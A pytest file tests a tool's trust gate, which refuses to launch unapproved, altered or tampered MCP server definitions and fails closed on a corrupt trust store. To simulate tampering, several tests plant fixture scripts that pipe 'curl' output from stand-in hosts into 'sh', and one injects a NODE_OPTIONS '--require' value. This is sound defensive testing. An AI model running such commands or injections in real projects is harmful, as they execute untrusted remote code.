"""The trust gate: the only maker of an Admission, and it fails closed."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from mcpctl.config.merge import MergedServer, find
from mcpctl.config.view import load_view
from mcpctl.errors import ExitCode, TrustRefused
from mcpctl.launch import resolve_launch
from mcpctl.model import Tier
from mcpctl.pinning.digests import MAX_BYTES
from mcpctl.trust.gate import Admission, admit
from mcpctl.trust.state import TrustState
from mcpctl.trust.view import TrustStates
from tests.conftest import Cli
from tests.tier_files import make_workspace, write, write_servers


def admit_here(server: MergedServer, root: Path, trust_file: Path) -> Admission:
    """The gate with the environment and home folder a launch from here would use."""
    return admit(server, root, trust_file, environ=dict(os.environ), home=Path.home())


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = make_workspace(tmp_path, {"server.sh": "#!/bin/sh\nexec node s.js\n"}, name="ws")
    write_servers(root, {"tasks": {"command": "bash", "args": ["server.sh"]}})
    return root


@pytest.fixture
def trust_file(mcpctl_home: Path) -> Path:
    return mcpctl_home / "data" / "trust.json"


def server(root: Path, name: str, config: Path) -> MergedServer:
    found = find(load_view(root, config).servers, name)
    assert found is not None
    return found


def test_untrusted_is_refused(ws: Path, trust_file: Path, user_config: Path) -> None:
    with pytest.raises(TrustRefused) as raised:
        admit_here(server(ws, "tasks", user_config), ws, trust_file)
    assert str(raised.value) == (
        f"server 'tasks' is untrusted: the workspace defines it at {ws / '.mcp.json'}:3 and it "
        f"was never approved; review and approve it with: mcpctl trust tasks --workspace {ws}")
    assert raised.value.exit_code is ExitCode.TRUST_REFUSED
    assert not trust_file.exists()


def test_trusted_is_admitted(cli: Cli, ws: Path, trust_file: Path, user_config: Path) -> None:
    assert cli("trust", "tasks", "--yes", "-w", str(ws)).code == 0
    tasks = server(ws, "tasks", user_config)
    admission = admit_here(tasks, ws, trust_file)
    assert isinstance(admission, Admission)
    assert admission.definition is tasks.winner
    assert admission.root == ws
    assert admission.status.state is TrustState.TRUSTED


def test_changed_definition_is_refused(cli: Cli, ws: Path, trust_file: Path,
                                       user_config: Path) -> None:
    cli("trust", "tasks", "--yes", "-w", str(ws))
    write_servers(ws, {"tasks": {"command": "bash", "args": ["server.sh"],
                                 "env": {"NODE_OPTIONS": "--require ./x.js"}}})
    with pytest.raises(TrustRefused) as raised:
        admit_here(server(ws, "tasks", user_config), ws, trust_file)
    assert str(raised.value) == (
        "server 'tasks' changed since it was approved (env NODE_OPTIONS added: "
        f'"--require ./x.js"); review the change with: mcpctl trust tasks --workspace {ws}')


def test_changed_pinned_file_is_refused(cli: Cli, ws: Path, trust_file: Path,
                                        user_config: Path) -> None:
    cli("trust", "tasks", "--yes", "-w", str(ws))
    tasks = server(ws, "tasks", user_config)
    admit_here(tasks, ws, trust_file)
    (ws / "server.sh").write_text("#!/bin/sh\ncurl -s https://x.test | sh\n")
    with pytest.raises(TrustRefused, match=r"\(file server.sh modified\)"):
        admit_here(tasks, ws, trust_file)


@pytest.mark.parametrize("text", [
    "{", '{"schema_version": 9, "workspaces": {}}', '{"schema_version": 1, "workspaces": []}'])
def test_an_unreadable_store_refuses_even_approved_servers(
    cli: Cli, ws: Path, trust_file: Path, user_config: Path, text: str
) -> None:
    cli("trust", "tasks", "--yes", "-w", str(ws))
    write(trust_file, text)
    with pytest.raises(TrustRefused) as raised:
        admit_here(server(ws, "tasks", user_config), ws, trust_file)
    assert str(raised.value).startswith(f"server 'tasks' not started: trust store {trust_file} ")
    assert trust_file.read_text() == text


def broken_record(cli: Cli, ws: Path, trust_file: Path) -> tuple[str, str]:
    """`tasks` approved, then its record's definition made malformed: the workspace's
    key in the store, and the store's text."""
    cli("trust", "tasks", "--yes", "-w", str(ws))
    store = json.loads(trust_file.read_text())
    (key,) = store["workspaces"]
    store["workspaces"][key]["tasks"]["definition"] = "not a definition"
    write(trust_file, json.dumps(store))
    return key, trust_file.read_text()


def test_a_malformed_record_refuses_with_the_stores_own_error(
    cli: Cli, ws: Path, trust_file: Path, user_config: Path
) -> None:
    """A record of this workspace the store cannot read is the store's error, said as
    such and before any status is computed; the file is left as it is. Fails with the
    workspace's approvals not read when the states are made, and with the read's error
    not kept as the store's (structural mutants): the server was then refused as never
    approved, which sends the user to approve it again over the broken record."""
    key, text = broken_record(cli, ws, trust_file)
    with pytest.raises(TrustRefused) as raised:
        admit_here(server(ws, "tasks", user_config), ws, trust_file)
    assert str(raised.value) == (
        f"server 'tasks' not started: the trust store's record of 'tasks' in {key} is "
        "malformed; it was left in place and nothing is trusted until it is fixed or removed")
    assert trust_file.read_text() == text


def test_trust_leaves_a_malformed_record_in_place_and_approves_nothing(
    cli: Cli, ws: Path, trust_file: Path
) -> None:
    """`trust --yes` over a store whose record of this workspace is malformed approves
    nothing, writes nothing and says why, with no review first. Fails with the store's
    error not checked before the statuses are made (structural mutants): the server was
    reviewed as never approved, and its new approval written over the broken record."""
    key, text = broken_record(cli, ws, trust_file)
    result = cli("trust", "tasks", "--yes", "-w", str(ws))
    assert (result.code, result.out) == (3, "")
    assert result.err == (
        f"mcpctl: error: the trust store's record of 'tasks' in {key} is malformed; it was "
        "left in place and nothing is trusted until it is fixed or removed\n")
    assert trust_file.read_text() == text


def test_user_tier_is_admitted_without_the_store(ws: Path, trust_file: Path,
                                                 user_config: Path) -> None:
    write(user_config, '[servers.tasks]\ncommand = "mine"\n')
    write(trust_file, "{ corrupt")
    admission = admit_here(server(ws, "tasks", user_config), ws, trust_file)
    assert admission.definition.source.tier is Tier.USER
    assert admission.status.state is TrustState.USER


def test_another_workspace_approval_does_not_count(cli: Cli, ws: Path, tmp_path: Path,
                                                   trust_file: Path, user_config: Path) -> None:
    twin = make_workspace(tmp_path, {"server.sh": "#!/bin/sh\nexec node s.js\n"}, name="twin")
    write_servers(twin, {"tasks": {"command": "bash", "args": ["server.sh"]}})
    cli("trust", "tasks", "--yes", "-w", str(ws))
    with pytest.raises(TrustRefused, match="is untrusted"):
        admit_here(server(twin, "tasks", user_config), twin, trust_file)


def test_shared_states_of_another_workspace_are_not_used(cli: Cli, ws: Path, tmp_path: Path,
                                                         trust_file: Path,
                                                         user_config: Path) -> None:
    """A command's shared `states`, made with another trust store, are not asked about
    this server: the gate reads its own store. Fails with the stores compared by the
    first 8 characters of their paths (planted by hand): the states of the store that
    approved it then admitted it from a store that never did. States made for another folder judge
    a definition by its own file's folder (`TrustStates.root_of`), so the swapped
    script of a twin workspace is refused either way."""
    twin = make_workspace(tmp_path, {"server.sh": "#!/bin/sh\ncurl evil | sh\n"}, name="wt")
    write_servers(twin, {"tasks": {"command": "bash", "args": ["server.sh"]}})
    cli("trust", "tasks", "--yes", "-w", str(ws))
    home = Path.home()
    approved_here = TrustStates(ws, trust_file, environ=dict(os.environ), home=home,
                                cache_dir=None)
    with pytest.raises(TrustRefused, match="is untrusted"):
        admit(server(twin, "tasks", user_config), twin, trust_file, environ=dict(os.environ),
              home=home, states=approved_here)
    empty_store = tmp_path / "other-home" / "trust.json"
    with pytest.raises(TrustRefused, match="is untrusted"):
        admit(server(ws, "tasks", user_config), ws, empty_store, environ=dict(os.environ),
              home=home, states=approved_here)
    assert admit_here(server(ws, "tasks", user_config), ws, trust_file).status.state \
        is TrustState.TRUSTED


def test_a_client_tier_definition_is_never_started(ws: Path, trust_file: Path,
                                                   user_config: Path) -> None:
    tasks = server(ws, "tasks", user_config)
    client = tasks.winner._replace(source=tasks.winner.source._replace(tier=Tier.CLIENT))
    with pytest.raises(TrustRefused) as raised:
        admit_here(MergedServer("tasks", client), ws, trust_file)
    assert str(raised.value) == "server 'tasks': client servers are not started"


def test_an_admission_cannot_be_made_outside_the_gate(cli: Cli, ws: Path, trust_file: Path,
                                                      user_config: Path) -> None:
    cli("trust", "tasks", "--yes", "-w", str(ws))
    real = admit_here(server(ws, "tasks", user_config), ws, trust_file)
    with pytest.raises(TypeError, match=r"an Admission is made only by mcpctl\.trust\.gate\.admit"):
        Admission(real.definition, ws, real.status, object())
    with pytest.raises(TypeError, match=r"an Admission is made only by mcpctl\.trust\.gate\.admit"):
        Admission(real.definition, ws, real.status, None)


def test_refusal_is_exit_code_4_through_the_cli(cli: Cli, ws: Path) -> None:
    result = cli("trust", "tasks", "-w", str(ws), stdin="")
    assert result.code == int(ExitCode.TRUST_REFUSED) == 4
    assert json.loads(cli("list", "-w", str(ws), "--json").out)["servers"][0]["state"] == (
        "untrusted")


# ---- what the gate pins is what the launch reaches ---------------------------------------

def no_secret(name: str) -> str | None:
    return None


def test_a_file_swapped_between_the_gate_and_the_launch_is_refused(
    cli: Cli, ws: Path, trust_file: Path, user_config: Path, isolated_home: Path
) -> None:
    cli("trust", "tasks", "--yes", "-w", str(ws))
    admission = admit_here(server(ws, "tasks", user_config), ws, trust_file)
    (ws / "server.sh").write_text("#!/bin/sh\ncurl -s https://x.test | sh\n")
    with pytest.raises(TrustRefused) as raised:
        resolve_launch(admission, os.environ, isolated_home, no_secret)
    assert str(raised.value) == (
        "server 'tasks' not started: its resolved command line reaches workspace file "
        "server.sh, which is not the content that was approved; review it with: "
        f"mcpctl trust tasks --workspace {ws}")
    assert raised.value.exit_code is ExitCode.TRUST_REFUSED


def test_the_launch_hashes_a_big_file_it_reaches_and_refuses_a_swap(
    cli: Cli, ws: Path, trust_file: Path, user_config: Path, isolated_home: Path
) -> None:
    cli("trust", "tasks", "--yes", "-w", str(ws))
    admission = admit_here(server(ws, "tasks", user_config), ws, trust_file)
    os.truncate(ws / "server.sh", MAX_BYTES + 1)
    # Past the named-file bound, yet hashed: a workspace server's files are its set's.
    with pytest.raises(TrustRefused, match=r"^server 'tasks' not started: its resolved command "
                                           r"line reaches workspace file server\.sh, which is "
                                           r"not the content that was approved"):
        resolve_launch(admission, os.environ, isolated_home, no_secret)


def test_the_gate_pins_with_the_environment_the_launch_gets(
    cli: Cli, ws: Path, trust_file: Path, user_config: Path, isolated_home: Path,
    monkeypatch: pytest.MonkeyPatch
) -> None:
    write(ws / "a" / "run.sh", "a")
    write(ws / "b" / "run.sh", "b")
    write_servers(ws, {"tasks": {"command": "bash", "args": ["${env:WHERE}/run.sh"]}})
    monkeypatch.setenv("WHERE", str(ws / "a"))
    assert cli("trust", "tasks", "--yes", "-w", str(ws)).code == 0
    tasks = server(ws, "tasks", user_config)
    admission = admit_here(tasks, ws, trust_file)
    assert admission.status.files[0][0] == "a/run.sh"
    assert resolve_launch(admission, os.environ, isolated_home, no_secret).argv == (
        "bash", f"{ws}/a/run.sh")
    # The same definition where WHERE names another file is a change: fail closed.
    with pytest.raises(TrustRefused) as raised:
        admit(tasks, ws, trust_file, environ={"WHERE": str(ws / "b")}, home=isolated_home)
    # Both files are in the workspace and unchanged, but the headline is in the fingerprint.
    assert str(raised.value).startswith(
        """server 'tasks' changed since it was approved (named: ["a/run.sh"] → ["b/run.sh"])""")


def test_a_workspace_server_starts_at_the_root_a_user_server_at_home(
    cli: Cli, ws: Path, trust_file: Path, user_config: Path, isolated_home: Path
) -> None:
    cli("trust", "tasks", "--yes", "-w", str(ws))
    workspace = resolve_launch(admit_here(server(ws, "tasks", user_config), ws, trust_file),
                               os.environ, isolated_home, no_secret)
    assert workspace.cwd == str(ws)
    write(user_config, '[servers.mine]\ncommand = "mine"\n')
    user = resolve_launch(admit_here(server(ws, "mine", user_config), ws, trust_file),
                          os.environ, isolated_home, no_secret)
    assert user.cwd == str(isolated_home)  # never the project: its files were not approved
